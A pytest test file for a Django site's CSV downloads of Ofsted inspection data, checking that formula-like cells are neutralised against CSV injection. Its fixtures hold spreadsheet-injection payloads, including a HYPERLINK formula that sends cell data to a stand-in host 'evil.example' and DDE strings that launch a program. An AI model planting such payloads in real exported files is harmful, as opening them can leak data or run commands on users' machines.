"""Every CSV the site writes neutralises spreadsheet formulas in stored text (OWASP's CSV
injection rule: a cell beginning with =, +, -, @, tab or carriage return gets a leading '),
while numbers, ISO dates and grades stay as they are."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest

from authorities.models import Authority, Region
from dashboard.csvsafe import spreadsheet_safe
from inspections.models import Inspection
from inspections.rules import OVERALL, Grade
from tests.factories import make_authority, make_inspection

FORMULAS = {
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
}
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Dudley", "Dudley"),
        ("", ""),
        ("a=b", "a=b"),
        ("-1.5", "-1.5"),  # a plain number stays a number
        ("+3", "+3"),
        ("-12", "-12"),
        ("2024-02-01", "2024-02-01"),
        (-1.5, -1.5),
        (-3, -3),
        (None, None),
        (dt.date(2024, 2, 1), dt.date(2024, 2, 1)),
    ],
)
def test_spreadsheet_safe(cell, written):
    assert spreadsheet_safe(cell) == written


@pytest.fixture
def formula_authorities(db) -> list[Authority]:
    """Three authorities named with formulas (as a rename could), each judged inadequate."""
    authorities = []
    for slug, name in FORMULAS.items():
        authority = make_authority(slug=slug, region=Region.WEST_MIDLANDS)
        Authority.objects.filter(pk=authority.pk).update(name=name)
        authority.refresh_from_db()
        make_inspection(
            authority,
            overall_effectiveness=Grade.INADEQUATE,
            report_url="https://reports.ofsted.gov.uk/provider/44/80001",
        )
        authorities.append(authority)
    return authorities


def read_csv(client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


COMPARE = "a=formula-hyperlink&a=formula-at&a=formula-minus"
CSV_URLS = [
    "/downloads/authorities.csv",
    "/downloads/authorities/formula-hyperlink.csv",
    "/downloads/authorities/formula-at.csv",
    "/downloads/authorities/formula-minus.csv",
    f"/downloads/compare.csv?{COMPARE}",
    "/downloads/national/latest.csv",
    "/downloads/national/inadequate.csv",
    "/downloads/national/regions.csv",
    "/downloads/national/over-time.csv",
]


@pytest.mark.parametrize("url", CSV_URLS)
def test_no_csv_cell_starts_a_formula(client, formula_authorities, url):
    rows = read_csv(client, url)
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if FORMULA_START.match(cell) and not _number(cell)]
    assert live == []
    names = set(FORMULAS.values())
    if "national/" not in url or "latest" in url or "inadequate" in url:
        # the names are there, neutralised: a ' before the text as stored
        assert names & {cell[1:] for cell in cells if cell.startswith("'")}
        assert not names & set(cells)


def _number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?\d+(\.\d+)?", cell) is not None


def test_numbers_dates_and_grades_are_written_as_they_are(client, formula_authorities):
    inspection = Inspection.objects.get(authority__slug="formula-hyperlink")
    published = inspection.published_on.isoformat()
    rows = list(
        csv.DictReader(
            io.StringIO(
                b"".join(
                    client.get("/downloads/authorities/formula-hyperlink.csv").streaming_content
                ).decode()
            )
        )
    )
    overall = next(r for r in rows if r["judgement"] == OVERALL)
    assert overall["authority"] == "'" + FORMULAS["formula-hyperlink"]
    assert overall["published_on"] == published
    assert overall["grade"] == "Inadequate"
    assert overall["report_url"] == "https://reports.ofsted.gov.uk/provider/44/80001"
    index = read_csv(client, "/downloads/authorities.csv?region=WM")
    header, *body = index
    row = dict(zip(header, next(r for r in body if r[1] == "formula-hyperlink"), strict=True))
    assert row["ofsted_urn"] == str(authority_urn("formula-hyperlink"))
    assert row["latest_published_on"] == published
    assert row["overall_effectiveness"] == "Inadequate"
    regions = read_csv(client, "/downloads/national/regions.csv")
    assert all(re.fullmatch(r"[\d.]+", cell) for row in regions[1:] for cell in row[1:] if cell)
    over_time = read_csv(client, "/downloads/national/over-time.csv")
    assert all(ISO_DATE.match(row[0]) for row in over_time[1:])


def authority_urn(slug: str) -> int:
    return Authority.objects.get(slug=slug).ofsted_urn
